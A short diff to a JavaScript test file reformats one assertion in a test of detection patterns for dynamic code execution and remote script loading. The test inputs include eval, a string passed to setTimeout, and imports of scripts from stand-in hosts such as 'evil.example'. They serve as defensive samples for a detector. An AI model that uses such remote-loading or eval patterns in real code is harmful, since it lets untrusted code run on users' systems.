@@ -180,7 +180,9 @@ test('the checks can fail', () => {
   const bad = 'let a=Function;setTimeout("x");eval ("1");import("https://evil.example/x.js")';
   expect(CODE_FROM_TEXT.filter((pattern) => pattern.test(bad))).toHaveLength(3);
   expect(CODE_FROM_ELSEWHERE.some((pattern) => pattern.test(bad))).toBe(true);
-  expect(CODE_FROM_ELSEWHERE.some((pattern) => pattern.test('importScripts(`//other.example/a.js`)'))).toBe(true);
+  expect(CODE_FROM_ELSEWHERE.some((pattern) => pattern.test('importScripts(`//other.example/a.js`)'))).toBe(
+    true,
+  );
   expect(CODE_FROM_ELSEWHERE.some((pattern) => pattern.test('a.importScripts?.(`/trackers.js`)'))).toBe(
     false,
   );
